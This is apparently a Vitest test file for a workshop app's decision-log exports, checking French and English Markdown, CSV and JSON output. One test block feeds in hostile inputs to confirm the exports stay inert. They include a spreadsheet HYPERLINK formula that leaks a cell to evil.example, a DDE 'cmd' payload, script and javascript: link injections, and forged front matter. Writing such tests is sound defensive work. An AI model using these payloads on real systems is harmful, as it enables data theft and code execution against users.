import { describe, expect, it } from 'vitest'
import {
  type DecisionLogSource,
  decisionsToCsv,
  decisionsToJson,
  decisionsToMarkdown,
} from '../../shared/export/decisionLog.ts'
import type { DecisionRecord } from '../../shared/schema/decisions.ts'

/** Noon, here: the day people read is the day the server's clock says. */
const DAY = new Date(2026, 10, 22, 12).getTime()
/** What French typography puts before a colon: a no-break space. */
const NBSP = '\u00a0'

const adopted: DecisionRecord = {
  id: 'd1',
  title: 'Jumelage « patient partenaire »',
  context: 'Beaucoup d’aînés vivent seuls.',
  options: ['Jumelage', 'Groupe d’entraide'],
  decision: 'Essayer le jumelage pendant six mois.',
  rationale: 'Les patients partenaires connaissent le quartier.',
  dissent: [{ text: 'objection', reason: 'Charge pour les bénévoles, "à surveiller"' }],
  participants: { patient: 3, citizen: 2, clinician: 2, other: 0 },
  support: {
    phaseId: 'ronde',
    result: {
      kind: 'consent',
      closed: true,
      voters: 7,
      counts: { consent: 6, concern: 0, objection: 1 },
      groups: { shown: ['patient'], folded: ['citizen', 'clinician'] },
      byGroup: { patient: { consent: 3, concern: 0, objection: 0 } },
      otherGroups: { consent: 3, concern: 0, objection: 1 },
      reasons: [{ value: 'objection', reason: 'Charge pour les bénévoles' }],
    },
  },
  links: { notes: [], actions: [], version: null },
  reviewDate: '2027-05-22',
  status: 'adopted',
  supersededBy: null,
  history: [
    { status: 'proposed', at: DAY },
    { status: 'adopted', at: DAY },
  ],
  createdAt: DAY,
  session: 's1',
}

const source: DecisionLogSource = {
  workshop: { id: 'w1', title: 'Comité de pilotage', locale: 'fr' },
  decisions: [adopted],
  phaseTitles: new Map([['ronde', 'Ronde de consentement']]),
  itemTexts: new Map(),
  sessions: new Map([['s1', { title: 'Comité de novembre', date: '2026-11-22' }]]),
}

describe('decision log exports of a known workshop', () => {
  it('writes Markdown with a front matter per decision', () => {
    expect(decisionsToMarkdown(source)).toBe(`# Journal des décisions — Comité de pilotage

---
id: d1
title: "Jumelage « patient partenaire »"
status: adopted
date: 2026-11-22
session: s1
review-date: 2027-05-22
---

## Jumelage « patient partenaire » (adoptée)

### Séance

Comité de novembre (22 novembre 2026)

### Contexte

Beaucoup d’aînés vivent seuls.

### Options envisagées

- Jumelage
- Groupe d’entraide

### Décision

Essayer le jumelage pendant six mois.

### Justification

Les patients partenaires connaissent le quartier.

### Désaccords et préoccupations

- objection${NBSP}: Charge pour les bénévoles, "à surveiller"

### Participation par groupe de partenaires

- Patients partenaires${NBSP}: 3
- Citoyens partenaires${NBSP}: 2
- Cliniciens partenaires${NBSP}: 2

### Vote à l’appui

Ronde de consentement (tour de consentement, 7 personnes ont voté)${NBSP}: Consentement 6, Réserve 0, Objection 1

### Date de révision

22 mai 2027

### Historique

- 22 novembre 2026${NBSP}: proposée
- 22 novembre 2026${NBSP}: adoptée
`)
    expect(decisionsToMarkdown({ ...source, decisions: [] })).toContain(
      'Aucune décision pour l’instant.',
    )
  })

  it('writes one CSV row per decision, quoted, with a BOM for spreadsheets', () => {
    const csv = decisionsToCsv(source)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const [header, row, end] = csv.slice(1).split('\r\n')
    expect(header).toBe(
      'id,title,status,date,review_date,superseded_by,context,options,decision,rationale,dissent,participants_patient,participants_citizen,participants_clinician,participants_other,support,session,session_date,session_id',
    )
    expect(row).toBe(
      `d1,Jumelage « patient partenaire »,adopted,2026-11-22,2027-05-22,,Beaucoup d’aînés vivent seuls.,Jumelage | Groupe d’entraide,Essayer le jumelage pendant six mois.,Les patients partenaires connaissent le quartier.,"objection${NBSP}: Charge pour les bénévoles, ""à surveiller""",3,2,2,0,"Ronde de consentement (tour de consentement, 7 personnes ont voté)${NBSP}: Consentement 6, Réserve 0, Objection 1",Comité de novembre,2026-11-22,s1`,
    )
    expect(end).toBe('')
  })

  it('writes versioned JSON with the records as they are', () => {
    expect(decisionsToJson(source)).toEqual({
      format: 'fabrique.decisions',
      version: 1,
      workshop: { id: 'w1', title: 'Comité de pilotage' },
      decisions: [adopted],
    })
  })
})

describe('decision log exports are inert', () => {
  const hostile: DecisionRecord = {
    ...adopted,
    id: 'd2',
    title: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    context:
      '<img src=x onerror=alert(1)> [clic](javascript:alert(1)) ![](https://evil.example/pixel.png)',
    options: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
    decision: '<script>alert(1)</script>',
    rationale: 'Voir https://exemple.org/plan et <a href="javascript:alert(1)">ici</a>',
    dissent: [],
  }
  const log: DecisionLogSource = { ...source, decisions: [hostile] }

  it('CSV: no cell starts with =, +, -, @, tab or CR (OWASP CSV injection)', () => {
    for (const text of [hostile.title, ...hostile.options]) {
      const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: [text] }] })
      // The cell (quoted or not) starts with a quote mark, never with the text itself.
      expect(csv, JSON.stringify(text)).toContain(`'${text.replace(/"/g, '""')}`)
      expect(csv, JSON.stringify(text)).not.toContain(`,${text}`)
      expect(csv, JSON.stringify(text)).not.toContain(`,"${text.replace(/"/g, '""')}`)
    }
    // A carriage return inside a cell is quoted: it never starts a row of its own.
    const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: ['\r=1+1'] }] })
    expect(csv).toContain(`"'\r=1+1"`)
  })

  it('Markdown: no raw HTML, no link but http(s) and mailto, no remote image', () => {
    const md = decisionsToMarkdown(log)
    expect(md).not.toMatch(/<img|<script|<a /i)
    expect(md).not.toMatch(/\]\(javascript:/i)
    expect(md).not.toContain('![')
    // Plain addresses stay as they are, for a reader to follow.
    expect(md).toContain('https://exemple.org/plan')
  })

  it('Markdown: what people wrote stays inside its section (no front matter, heading or rule)', () => {
    const forged = '\n---\nid: forged\nstatus: adopted\n---\n## Décision falsifiée\n==='
    const md = decisionsToMarkdown({
      ...log,
      decisions: [
        {
          ...hostile,
          id: 'd3\nstatus: rejected',
          title: `Titre${forged}`,
          context: `Contexte${forged}`,
          options: [`Option${forged}`],
          decision: `Décision\r---\r`,
          supersededBy: 'd1\n---',
        },
      ],
    })
    const lines = md.split('\n')
    // One front matter block for one decision: two delimiter lines, one id and one status.
    const delimiters = lines.flatMap((line, i) => (line === '---' ? [i] : []))
    expect(delimiters).toHaveLength(2)
    const front = lines.slice((delimiters[0] ?? 0) + 1, delimiters[1])
    expect(front.filter((line) => line.startsWith('status:'))).toEqual(['status: adopted'])
    expect(front.filter((line) => line.startsWith('id:'))).toEqual(['id: "d3\\nstatus: rejected"'])
    expect(lines.filter((line) => line.startsWith('## '))).toHaveLength(1)
    expect(lines.some((line) => /^\s*(={3,}|-{3,}|\+{3,})\s*$/.test(line) && line !== '---')).toBe(
      false,
    )
  })
})

describe('decision log in the reader’s language', () => {
  const dotVote: DecisionRecord = {
    ...adopted,
    id: 'd4',
    title: 'Nos priorités',
    dissent: [],
    participants: { patient: 3, citizen: 0, clinician: 4, other: 0 },
    support: {
      phaseId: 'vote-des-priorites',
      result: {
        kind: 'dots',
        closed: true,
        voters: 7,
        groups: { shown: ['patient', 'clinician'], folded: [] },
        items: {
          '7tTwX2': { total: 3, byGroup: { patient: 3, clinician: 0 }, otherGroups: 0 },
          q9Lm0a: { total: 5, byGroup: { patient: 1, clinician: 4 }, otherGroups: 0 },
          gone: { total: 1, byGroup: { patient: 0, clinician: 1 }, otherGroups: 0 },
        },
      },
    },
    reviewDate: '2027-03-01',
    history: [{ status: 'proposed', at: new Date(2027, 2, 1, 12).getTime() }],
  }
  const named = (locale: 'fr' | 'en'): DecisionLogSource => ({
    workshop: { id: 'w1', title: 'Comité', locale },
    decisions: [dotVote],
    phaseTitles: new Map([
      ['vote-des-priorites', locale === 'fr' ? 'Vote des priorités' : 'Priority vote'],
    ]),
    itemTexts: new Map([
      ['7tTwX2', 'Jumelage [patients]'],
      ['q9Lm0a', 'Navette'],
    ]),
    sessions: new Map(),
  })

  it('names a vote by its step and its ideas by their text, in French typography', () => {
    const md = decisionsToMarkdown(named('fr'))
    expect(md).toContain(
      `Vote des priorités (vote par points, 7 personnes ont voté)${NBSP}: «\u202fNavette\u202f» 5, «\u202fJumelage \\[patients\\]\u202f» 3, «\u202fÉlément supprimé\u202f» 1`,
    )
    expect(md).not.toContain('7tTwX2')
    expect(md).not.toContain('vote-des-priorites:')
    expect(md).toContain(`- Patients partenaires${NBSP}: 3`)
    // Days as people write them; the front matter keeps ISO dates for tools.
    expect(md).toContain('### Date de révision\n\n1er mars 2027')
    expect(md).toContain(`- 1er mars 2027${NBSP}: proposée`)
    expect(md).toContain('review-date: 2027-03-01')
    const csv = decisionsToCsv(named('fr'))
    expect(csv).toContain('Vote des priorités (vote par points, 7 personnes ont voté)')
    expect(csv).not.toContain('7tTwX2')
  })

  it('writes English as English', () => {
    const md = decisionsToMarkdown(named('en'))
    expect(md).toContain(
      'Priority vote (dot vote, 7 people voted): “Navette” 5, “Jumelage \\[patients\\]” 3, “Deleted item” 1',
    )
    expect(md).toContain('### Review date\n\nMarch 1, 2027')
    expect(md).toContain('- March 1, 2027: proposed')
    expect(md).toContain('- Patient partners: 3')
  })
})
